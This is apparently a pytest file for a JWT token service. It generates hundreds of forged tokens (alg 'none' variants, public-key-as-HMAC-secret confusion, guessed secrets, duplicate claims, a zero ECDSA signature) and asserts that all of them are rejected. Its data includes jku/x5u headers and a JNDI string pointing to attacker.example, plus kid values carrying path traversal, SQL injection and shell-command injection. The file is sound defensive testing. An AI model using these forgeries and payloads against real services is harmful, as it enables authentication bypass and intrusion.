"""What attack tools try against JWTs, for each algorithm that we sign with: nothing is accepted."""

from __future__ import annotations

import base64
import hashlib
import hmac
import itertools
import json
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.serialization import (
    Encoding,
    NoEncryption,
    PrivateFormat,
    PublicFormat,
)

from models.login import Login
from models.user import User
from resolvers.errors import InvalidToken
from resolvers.signing_keys import key_pair, public_jwk
from resolvers.tokens import TokenService
from tests.clock import SettableClock
from tests.resolvers.conftest import SECRET

ALGORITHMS = ["HS256", "EdDSA", "RS256"]
HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
# Stolen from nobody: what an attacker signs with who has no key of ours.
OWN_RSA = rsa.generate_private_key(public_exponent=65537, key_size=3072)
OWN_EC = ec.generate_private_key(ec.SECP256R1())
OWN_ED = ed25519.Ed25519PrivateKey.generate()
GUESSES = ["", "secret", "password", "changeme", "your-256-bit-secret", "groundql", "\0", "0" * 32]
HEADERS: list[dict[str, Any]] = [
    {"jku": "https://attacker.example/jwks.json"},
    {"jku": "http://localhost:8000/.well-known/jwks.json@attacker.example"},
    {"x5u": "https://attacker.example/key.pem"},
    {"x5c": ["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"]},
    {"x5t": "AAAA"},
    {"jwk": public_jwk(OWN_RSA.public_key())},
    {"jwk": public_jwk(OWN_ED.public_key())},
    {"jwk": {"kty": "oct", "k": ""}},
    {"crit": ["exp"]},
    {"b64": False, "crit": ["b64"]},
    {"zip": "DEF"},
    {"typ": "at+jwt"},
    {"cty": "JWT"},
]
NO_ALGORITHM: list[Any] = ["", " none", "none\0", "null", "n\u043ene", None, 0, [], {}]
KIDS: list[Any] = [
    None,
    "",
    0,
    [],
    {},
    True,
    "../../../../../../dev/null",
    "/dev/null",
    "file:///etc/passwd",
    "..\\..\\windows\\win.ini",
    "' UNION SELECT 'secret' -- ",
    "x' OR '1'='1",
    "| sleep 5 #",
    "$(id)",
    "key\0.pem",
    "https://attacker.example/jwks.json",
    "${jndi:ldap://attacker.example}",
    "A" * 1000,
]


def pem(key: Any) -> bytes:
    made: bytes = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
    return made


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def part(value: Any) -> str:
    return b64(json.dumps(value).encode())


def hmac_signed(header: Any, body: str, key: bytes, algorithm: str = "HS256") -> str:
    """Signed by hand: PyJWT refuses to sign with a public key."""
    signed = f"{part(header)}.{body}"
    return f"{signed}.{b64(hmac.digest(key, signed.encode(), HASHES[algorithm]))}"


def spellings(word: str) -> Iterator[str]:
    """A word in all mixtures of upper and lower case."""
    for letters in itertools.product(*((char.lower(), char.upper()) for char in word)):
        yield "".join(letters)


@pytest.fixture
def clock() -> SettableClock:
    return SettableClock()


@pytest.fixture(params=ALGORITHMS)
def tokens(request: pytest.FixtureRequest, clock: SettableClock) -> TokenService:
    if request.param == "HS256":
        return TokenService(SECRET, clock)
    made = ed25519.Ed25519PrivateKey.generate() if request.param == "EdDSA" else OWN_OTHER_RSA
    return TokenService(SECRET, clock, pair=key_pair(pem(made)))


OWN_OTHER_RSA = rsa.generate_private_key(public_exponent=65537, key_size=3072)


@pytest.fixture
def real(tokens: TokenService) -> str:
    user = User(email="a@example.com", display_name="a", password_hash="")
    text, _ = tokens.access_token(user, Login(user_id=user.id))
    assert tokens.read_access_token(text).user_id == user.id
    return text


def public_forms(tokens: TokenService) -> list[bytes]:
    """Every text that an attacker makes of our public key, as the key of an HMAC."""
    forms: list[bytes] = []
    for key in tokens._keys.values():
        if not key.is_asymmetric:
            continue
        formats = [PublicFormat.SubjectPublicKeyInfo]
        if isinstance(key.private, rsa.RSAPrivateKey):
            formats.append(PublicFormat.PKCS1)
        for format in formats:
            text = key.public.public_bytes(Encoding.PEM, format)
            forms += [
                text,
                text.strip(),
                text.replace(b"\n", b"\r\n"),
                key.public.public_bytes(Encoding.DER, format),
            ]
        forms.append(json.dumps(tokens.public_keys()).encode())
        forms.append(json.dumps(tokens.public_keys()["keys"][0]).encode())
        forms.append(key.kid.encode())
    return forms


def forgeries(tokens: TokenService, real: str) -> Iterator[str]:
    head, body, signature = real.split(".")
    header = jwt.get_unverified_header(real)
    claims = jwt.decode(real, options={"verify_signature": False})
    admin = part({**claims, "sub": "00000000-0000-0000-0000-000000000000"})
    later = part({**claims, "exp": claims["exp"] + 10**6})

    # No algorithm, in every spelling, with and without the old signature.
    for name in (*spellings("none"), *NO_ALGORITHM):
        for text in (body, admin):
            made = f"{part({**header, 'alg': name})}.{text}."
            yield made
            yield made[:-1]
            yield made + signature
            yield made + b64(b"x")
    # The signature cut off, emptied, shortened, padded, repeated or of something else.
    for text in (body, admin, later):
        yield f"{head}.{text}."
        yield f"{head}.{text}"
        if text != body:
            yield f"{head}.{text}.{signature}"
        yield f"{head}.{text}.{b64(bytes(32))}"
        yield f"{head}.{text}.{b64(bytes(64))}"
        yield f"{head}.{text}.{b64(bytes(256))}"
        yield f"{head}.{text}.{signature[::-1]}"
        yield f"{head}.{text}.{signature}=="
        yield f"{head}.{text}.{signature}.{signature}"
        for cut in (1, 2, 4, len(signature) // 2):
            yield f"{head}.{text}.{signature[:-cut]}"
    # Guessed secrets, and public keys taken for secrets, with each HMAC.
    for algorithm in HASHES:
        for key in [*(guess.encode() for guess in GUESSES), *public_forms(tokens)]:
            for named in (header, {**header, "kid": "other"}, {"typ": "JWT"}):
                yield hmac_signed({**named, "alg": algorithm}, admin, key, algorithm)
    # Keys of the attacker's, with our kid and with headers that bring or fetch them.
    owned: dict[str, Any] = {
        "RS256": OWN_RSA,
        "RS512": OWN_RSA,
        "PS256": OWN_RSA,
        "ES256": OWN_EC,
        "EdDSA": OWN_ED,
    }
    for algorithm, own in owned.items():
        for extra in [{}, *HEADERS]:
            if "b64" not in extra:
                yield jwt.encode(claims, own, algorithm, headers={"kid": header["kid"], **extra})
    for extra in HEADERS:
        yield hmac_signed({**header, **extra, "alg": "HS256"}, admin, b"attacker" * 4)
        yield f"{part({**header, **extra})}.{body}.{signature}"
    # Ids of keys that read files, databases or shells, with the key that they would then give.
    for kid in KIDS:
        for key in (b"", b"\0", b"secret", b"attacker" * 4):
            yield hmac_signed({**header, "alg": "HS256", "kid": kid}, admin, key)
        yield f"{part({**header, 'kid': kid})}.{body}.{signature}"
    # The same name twice: whoever reads the first and whoever reads the last.
    raw_head = base64.urlsafe_b64decode(head + "==")
    raw_body = base64.urlsafe_b64decode(body + "==")
    for doubled in (b'{"alg":"none",' + raw_head[1:], raw_head[:-1] + b',"alg":"none"}'):
        yield f"{b64(doubled)}.{admin}."
        yield f"{b64(doubled)}.{body}.{signature}"
    for doubled in (b'{"sub":"x",' + raw_body[1:], raw_body[:-1] + b',"exp":99999999999}'):
        yield f"{head}.{b64(doubled)}.{signature}"
    # Other forms of the same, and of nothing (CVE-2022-21449: a signature of zeros for ECDSA).
    yield f"{part({**header, 'alg': 'ES256'})}.{admin}.{b64(bytes(64))}"
    yield f"{part({**header, 'alg': 'ES256'})}.{admin}.MAYCAQACAQA"
    yield json.dumps({"protected": head, "payload": body, "signature": signature})
    yield f"{head}.{body}.{signature}.."
    yield f"..{signature}"
    yield ".."
    yield real.replace(".", "%2e")
    yield f"Bearer {real}"
    yield real.swapcase()


def accepted(tokens: TokenService, text: str) -> bool:
    try:
        tokens.read_access_token(text)
    except InvalidToken:
        return False
    return True


def test_no_forgery_is_accepted(tokens: TokenService, real: str) -> None:
    """Of all of them 0 are, before and after the real token was seen; it stays good."""
    made = set(forgeries(tokens, real)) - {real}
    assert len(made) > 350
    assert [text for text in made if accepted(tokens, text)] == []
    assert [text for text in made if tokens.read_login(text) is not None] == []
    assert accepted(tokens, real)


def test_a_right_signature_does_not_excuse_wrong_claims(
    tokens: TokenService, real: str, clock: SettableClock
) -> None:
    """Wrong type, audience, issuer, times and numbers are refused though we signed them."""
    key = tokens._key
    claims = jwt.decode(real, options={"verify_signature": False})
    now = int(clock.time.timestamp())
    for change in (
        {"typ": "refresh"},
        {"typ": "Access"},
        {"typ": None},
        {"aud": "other"},
        {"aud": ["groundql-api"]},
        {"iss": "groundql "},
        {"exp": now - 11},
        {"exp": -1},
        {"exp": 10**400},
        {"exp": 1e308},
        {"exp": str(now + 60)},
        {"iat": now + 11},
        {"iat": 10**400},
        {"nbf": now + 3600},
        {"nbf": 10**400},
        {"sub": "../admin"},
    ):
        text = jwt.encode(
            {**claims, **change}, key.private, key.algorithm, headers={"kid": key.kid}
        )
        assert not accepted(tokens, text), change
    header = {"typ": "JWT", "alg": key.algorithm, "kid": key.kid, "crit": ["exp"]}
    assert not accepted(tokens, jwt.encode(claims, key.private, key.algorithm, headers=header))


def test_a_remembered_token_still_expires(
    tokens: TokenService, real: str, clock: SettableClock
) -> None:
    """That its signature was right once does not make it live longer."""
    assert accepted(tokens, real)
    clock.time += timedelta(minutes=15, seconds=10)
    assert not accepted(tokens, real)
